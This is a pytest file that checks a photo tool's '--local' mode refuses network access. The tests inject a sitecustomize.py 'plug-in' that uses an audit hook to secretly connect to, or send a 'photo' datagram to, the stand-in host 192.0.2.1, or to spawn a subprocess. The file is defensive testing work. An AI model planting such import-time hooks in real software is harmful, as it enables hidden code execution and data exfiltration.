"""`--local` in a real run: somebody's plug-in tries to call home.

The plug-in is in the interpreter before photocast is, starts a thread in the middle of the run, and swallows what
comes back. Nothing is sent: the guard refuses before the system is asked.
"""

from pathlib import Path
from typing import Any

import pytest

PLUG_IN = """
import socket, sys, threading

done = []

def call_home():
    try:
        {tried}
    except Exception:
        pass

def at_import(event, args):
    if event == "import" and args[0] == "{when}" and not done:
        done.append(True)
        thread = threading.Thread(target=call_home)
        thread.start()
        thread.join()

sys.addaudithook(at_import)
"""
CONNECT = 'socket.create_connection(("192.0.2.1", 80), timeout=1)'
DATAGRAM = 'socket.socket(type=socket.SOCK_DGRAM).sendto(b"photo", ("192.0.2.1", 9))'
PROGRAM = '__import__("subprocess").run([sys.executable, "-c", "pass"])'


def _plugged(folder: Path, tried: str, when: str) -> dict[str, str]:
    (folder / "plugged").mkdir()
    (folder / "plugged" / "sitecustomize.py").write_text(PLUG_IN.format(tried=tried, when=when), "utf-8")
    return {"PYTHONPATH": str(folder / "plugged")}


@pytest.mark.parametrize("tried", [CONNECT, DATAGRAM, PROGRAM], ids=["connect", "datagram", "program"])
def test_a_plug_in_that_calls_home_fails_the_run(tried: str, few: Path, tmp_path: Path, run: Any) -> None:
    env = _plugged(tmp_path, tried, "photocast.writing")
    ran = run("make", few, "-o", tmp_path / "out", "--local", "--yes", "--json", env=env)
    assert ran.code == 5
    assert "192.0.2.1" in ran.document["error"]["why"] or "python" in ran.document["error"]["why"]
    assert ran.err.startswith("error: a connection beyond this machine was refused")
    assert not (tmp_path / "out").exists()


def test_calling_home_while_the_page_is_made_fails_the_run_too(few: Path, tmp_path: Path, run: Any) -> None:
    env = _plugged(tmp_path, CONNECT, "photocast.publish.page")
    assert run("make", few, "-o", tmp_path / "out", "--local", "--yes", env=env).code == 5


def test_the_demo_is_always_local(tmp_path: Path, run: Any) -> None:
    env = _plugged(tmp_path, CONNECT, "photocast.looking")
    assert run("demo", "-o", tmp_path / "out", env=env).code == 5
    assert run("demo", "--local", "-o", tmp_path / "out", env=env).code == 5


def test_a_program_without_the_guard_is_nobodys_business(few: Path, tmp_path: Path, run: Any) -> None:
    env = _plugged(tmp_path, PROGRAM, "photocast.album")
    assert run("plan", few, env=env).code == 0
    assert run("plan", few, "--local", env=env).code == 5
